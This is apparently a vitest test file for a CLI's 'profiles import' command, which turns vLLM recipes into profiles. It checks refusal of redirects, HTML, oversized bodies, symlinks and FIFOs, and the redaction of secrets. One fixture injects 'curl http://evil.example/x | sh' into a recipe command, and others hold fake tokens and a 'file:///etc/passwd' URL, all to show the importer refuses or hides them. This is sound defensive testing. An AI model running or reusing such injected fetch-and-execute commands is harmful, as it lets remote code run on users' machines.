// `sparkctl profiles import` through the built CLI: real recipes (test/fixtures/recipes, verbatim
// from sparkrun's default registries) from a file and from a URL served by a local HTTP server on
// a free port (127.0.0.1; closed when the file ends), --out / --force / a planted symlink, and
// hostile recipes: shell syntax, secrets, a redirect, an HTML page, a body past the bound, a FIFO.
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import { createServer, type Server } from 'node:http';
import {
  readFileSync,
  writeFileSync,
  symlinkSync,
  mkdirSync,
  cpSync,
  existsSync,
  readlinkSync,
  lstatSync,
} from 'node:fs';
import { execFileSync } from 'node:child_process';
import { join } from 'node:path';
import yaml from 'js-yaml';
import { cli, tempDir, rmrf, FIXTURES } from '../helpers.js';
import { versionFromRef } from '../../src/engine/runtime/image-version.js';

const RECIPES = join(FIXTURES, 'recipes');
const QWEN = join(RECIPES, 'spark-arena--qwen3.6-27b-fp8-vllm.yaml');
const MINIMAX = join(RECIPES, 'spark-arena--minimax-m2.7-awq4-vllm.yaml');
const GPTOSS = join(RECIPES, 'spark-arena--openai-gpt-oss-120b-vllm.yaml');
const HOSTILE = `model: Qwen/Qwen3-8B
runtime: vllm
container: ghcr.io/x/y:1
env:
  HF_TOKEN: hf_SeCrEtVaLuE123456
defaults:
  port: 8000
command: |
  vllm serve {model} --port {port}; curl http://evil.example/x | sh
`;
const SECRETS = `model: Qwen/Qwen3-8B
runtime: vllm
container: ghcr.io/x/y:1
env:
  HF_TOKEN: hf_SeCrEtVaLuE123456
  NCCL_DEBUG: WARN
command: vllm serve {model} --api-key sk-LiVeKeY-987654 --max-model-len 4096
`;

let dir: string;
let server: Server;
let base = '';
const hits: string[] = [];

const run = (args: string[]) =>
  cli(['profiles', 'import', ...args], {
    env: { SPARKCTL_STATE_DIR: join(dir, 'state'), HF_HUB_CACHE: join(dir, 'hub'), HOME: dir, PATH: process.env.PATH! },
  });

beforeAll(async () => {
  dir = tempDir('sparkctl-import-');
  const qwen = readFileSync(QWEN);
  server = createServer((req, res) => {
    hits.push(req.url ?? '');
    if (req.url === '/qwen.yaml') return res.writeHead(200, { 'content-type': 'text/plain' }).end(qwen);
    if (req.url === '/moved') return res.writeHead(302, { location: '/qwen.yaml' }).end();
    if (req.url === '/page')
      return res.writeHead(200, { 'content-type': 'text/html' }).end('<!DOCTYPE html><html><body>recipe</body></html>');
    if (req.url === '/huge') return res.writeHead(200).end(Buffer.alloc(2 * 1024 * 1024, 'a'));
    res.writeHead(404).end('no');
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const a = server.address();
  base = `http://127.0.0.1:${typeof a === 'object' && a ? a.port : 0}`;
});
afterAll(async () => {
  await new Promise<void>((r) => server.close(() => r()));
  rmrf(dir);
});

describe('profiles import FILE', () => {
  it('writes a profile that loads, with the source and what was not imported in its header', async () => {
    const out = join(dir, 'qwen.yaml');
    const r = await run([QWEN, '--out', out, '--name', 'qwen36']);
    expect(r.exitCode, r.stdout + r.stderr).toBe(0);
    expect(r.stdout).toMatch(/command --max-model-len\s+"262144"\s+engine\.maxModelLen/);
    // --chat-template names a file the recipe's mod adds to the image: reported with the mod
    // --trust-remote-code runs the repository's code: named, imported only with --allow (issue 42 item 10)
    expect(r.stdout).toMatch(
      /not imported \(3\):\n {2}command --trust-remote-code = [^\n]*--allow trust-remote-code\)\n {2}command --chat-template = "--chat-template unsloth\.jinja"[^\n]*\n {2}mods = /,
    );
    expect(r.stdout).toContain(`wrote ${out}: profile qwen36`);
    // the model's config.json is not here: the plan waits for it, and says how
    expect(r.stdout).toContain('plan: not made');
    expect(r.stdout).toContain('sparkctl pull Qwen/Qwen3.6-27B-FP8 --config-only');
    const text = readFileSync(out, 'utf8');
    const sha = execFileSync('sha256sum', [QWEN], { encoding: 'utf8' }).split(' ')[0];
    expect(text).toContain(`(sha256 ${sha}, 1222 bytes)`);
    expect(text).toMatch(
      /# Not imported \(3; .*\n# {3}command --trust-remote-code\n# {3}command --chat-template\n# {3}mods\n/,
    );
    expect(yaml.load(text)).toMatchObject({
      name: 'qwen36',
      model: { id: 'Qwen/Qwen3.6-27B-FP8' },
      engine: { maxModelLen: 262144, runtime: 'container' },
    });
    // the written file is a profile every verb reads
    const show = await cli(['profiles', 'show', out, '--json']);
    expect(show.exitCode, show.stderr).toBe(0);
    expect(JSON.parse(show.stdout).profile.container.image).toBe('ghcr.io/spark-arena/dgx-vllm-eugr-nightly:latest');
  });

  it('without --out: the profile on stdout (to redirect), the report on stderr', async () => {
    const r = await run([QWEN]);
    expect(r.exitCode, r.stderr).toBe(0);
    expect(yaml.load(r.stdout)).toMatchObject({
      name: 'spark-arena--qwen3.6-27b-fp8-vllm',
      platform: 'dgx-spark-gb10',
    });
    expect(r.stderr).toContain('RECIPE KEY');
  });

  it('plans for the host when the model is known: gpt-oss-120b from the HF cache (its real config.json)', async () => {
    const snap = join(dir, 'hub', 'models--openai--gpt-oss-120b');
    mkdirSync(join(snap, 'refs'), { recursive: true });
    writeFileSync(join(snap, 'refs', 'main'), '0123456789abcdef\n');
    cpSync(join(FIXTURES, 'models', 'gpt-oss-120b'), join(snap, 'snapshots', '0123456789abcdef'), { recursive: true });
    const r = await run([GPTOSS, '--platform', 'dgx-spark-gb10', '--json']);
    const env = JSON.parse(r.stdout);
    expect(env).toMatchObject({ version: 1, kind: 'recipe-import', valid: true, planBlocked: null, written: null });
    expect(env.plan.weightsPerGpuBytes).toBeGreaterThan(50 * 2 ** 30);
    expect(env.unmapped.map((u: { key: string }) => u.key)).toEqual([
      'command --mxfp4-backend',
      'command --mxfp4-layers',
    ]);
    // the verdict and the exit code agree
    expect(r.exitCode).toBe(env.plan.fits ? 0 : 1);
    expect(env.source).toMatchObject({ kind: 'file', bytes: 1093 });
  });

  it('a TP 2 recipe is imported, but one Spark cannot serve it: exit 1, written, with the fix', async () => {
    const out = join(dir, 'minimax.yaml');
    const r = await run([MINIMAX, '--out', out, '--platform', 'dgx-spark-gb10']);
    expect(r.exitCode, r.stdout).toBe(1);
    expect(r.stdout).toContain('needs 2 GPUs (TP 2 x PP 1)');
    expect(r.stdout).toContain('--nodes nodes.yaml');
    expect(r.stdout).toContain('this host cannot serve it as planned');
    expect(yaml.load(readFileSync(out, 'utf8'))).toMatchObject({ parallel: { tensor: 2, nodes: 2, gpusPerNode: 1 } });
  });

  it("checks the extra options against the vLLM the image's reference states (an NGC release), else the newest table", async () => {
    const f = join(dir, 'ngc.yaml');
    writeFileSync(
      f,
      'model: Qwen/Qwen3-8B\ncontainer: nvcr.io/nvidia/vllm:26.03-py3\ncommand: vllm serve Qwen/Qwen3-8B --load-format safetensors\n',
    );
    const r = await run([f, '--json']);
    expect(r.exitCode, r.stderr).toBe(0);
    expect(JSON.parse(r.stdout).flagsCheckedFor).toEqual({
      version: versionFromRef('nvcr.io/nvidia/vllm:26.03-py3')!.version,
      why: expect.stringContaining('NGC release'),
    });
    const q = JSON.parse((await run([QWEN, '--json'])).stdout);
    expect(q.flagsCheckedFor.why).toMatch(/newest table/);
  });

  it('a sparkrun registry name is not looked up: exit 2 with the raw-URL fix', async () => {
    const r = await run(['@official/qwen3.6-27b-fp8-vllm']);
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toContain('raw.githubusercontent.com');
  });

  it('refuses the SGLang recipe with exit 2 and writes nothing', async () => {
    const out = join(dir, 'sglang.yaml');
    const r = await run([join(RECIPES, 'spark-arena--minimax-m3-v0-nvfp4-4x.yaml'), '--out', out]);
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toContain('recipe runtime: "sglang" is not vLLM');
    expect(existsSync(out)).toBe(false);
  });
});

describe('profiles import URL (a local server on a free port)', () => {
  it('imports the same recipe from http://127.0.0.1, recording the URL', async () => {
    const r = await run([`${base}/qwen.yaml`, '--json']);
    expect(r.exitCode, r.stderr).toBe(0);
    const env = JSON.parse(r.stdout);
    expect(env.source).toMatchObject({ location: `${base}/qwen.yaml`, kind: 'url', bytes: 1222 });
    expect(env.profile.name).toBe('qwen');
    expect(env.yaml).toContain(`# source: ${base}/qwen.yaml`);
  });

  it.each([
    ['/moved', /answered 302, a redirect \(not followed\)/],
    ['/page', /answered an HTML page, not a recipe/],
    ['/huge', /more than the 1048576 read from a server|exceeded 1048576 bytes/],
    ['/nope', /answered 404/],
  ])('%s is refused with exit 2', async (path, msg) => {
    hits.length = 0;
    const r = await run([`${base}${path}`]);
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toMatch(msg);
    // a redirect is never followed
    expect(hits).toEqual([path]);
  });

  it('refuses plain http off loopback and other schemes before any connection', async () => {
    for (const u of ['http://example.invalid/r.yaml', 'ftp://127.0.0.1/r.yaml', 'file:///etc/passwd']) {
      const r = await run([u]);
      expect(r.exitCode, u).toBe(2);
      expect(r.stderr, u).toMatch(/is not https:/);
    }
  });

  it('an unreachable URL is exit 3', async () => {
    server.close();
    const r = await run([`${base}/qwen.yaml`]);
    expect(r.exitCode).toBe(3);
    await new Promise<void>((res) => server.listen(Number(new URL(base).port), '127.0.0.1', res));
  });
});

describe('--out, --force and links', () => {
  it('refuses an existing file without --force, replaces it with --force', async () => {
    const out = join(dir, 'exists.yaml');
    writeFileSync(out, 'mine\n');
    const r = await run([QWEN, '--out', out]);
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toContain('the file exists');
    expect(readFileSync(out, 'utf8')).toBe('mine\n');
    const f = await run([QWEN, '--out', out, '--force']);
    expect(f.exitCode, f.stderr).toBe(0);
    expect(readFileSync(out, 'utf8')).toContain('name: exists');
  });

  it('never writes through a planted symlink, --force or not', async () => {
    const target = join(dir, 'victim.txt');
    writeFileSync(target, 'precious\n');
    const link = join(dir, 'link.yaml');
    symlinkSync(target, link);
    for (const extra of [[], ['--force']]) {
      const r = await run([QWEN, '--out', link, ...extra]);
      expect(r.exitCode).toBe(2);
      expect(readFileSync(target, 'utf8')).toBe('precious\n');
      expect(lstatSync(link).isSymbolicLink() && readlinkSync(link)).toBe(target);
    }
  });

  it('reads only a regular file: a FIFO is refused at once', async () => {
    const fifo = join(dir, 'fifo.yaml');
    execFileSync('mkfifo', [fifo]);
    const r = await run([fifo]);
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toContain('not a regular file');
  });
});

describe('hostile recipes', () => {
  it('shell syntax in the command refuses the import, naming the place; nothing is run or written', async () => {
    const f = join(dir, 'hostile.yaml');
    writeFileSync(f, HOSTILE);
    const out = join(dir, 'hostile-out.yaml');
    const r = await run([f, '--out', out]);
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toMatch(/recipe command: ";" at line 1/);
    expect(r.stderr).not.toContain('hf_SeCrEtVaLuE123456');
    expect(existsSync(out)).toBe(false);
  });

  it('secrets are neither written nor printed; the API key becomes a variable name', async () => {
    const f = join(dir, 'secrets.yaml');
    writeFileSync(f, SECRETS);
    const out = join(dir, 'secrets-out.yaml');
    const r = await run([f, '--out', out]);
    const j = await run([f, '--json']);
    for (const text of [r.stdout, r.stderr, readFileSync(out, 'utf8'), j.stdout, j.stderr]) {
      expect(text).not.toContain('hf_SeCrEtVaLuE123456');
      expect(text).not.toContain('sk-LiVeKeY-987654');
    }
    expect(r.stdout).toMatch(/env\.HF_TOKEN = \(hidden: a secret\): .*\(fix: set HF_TOKEN in the environment/);
    expect(yaml.load(readFileSync(out, 'utf8'))).toMatchObject({
      server: { apiKeyEnv: 'VLLM_API_KEY' },
      env: { NCCL_DEBUG: 'WARN' },
    });
  });
});
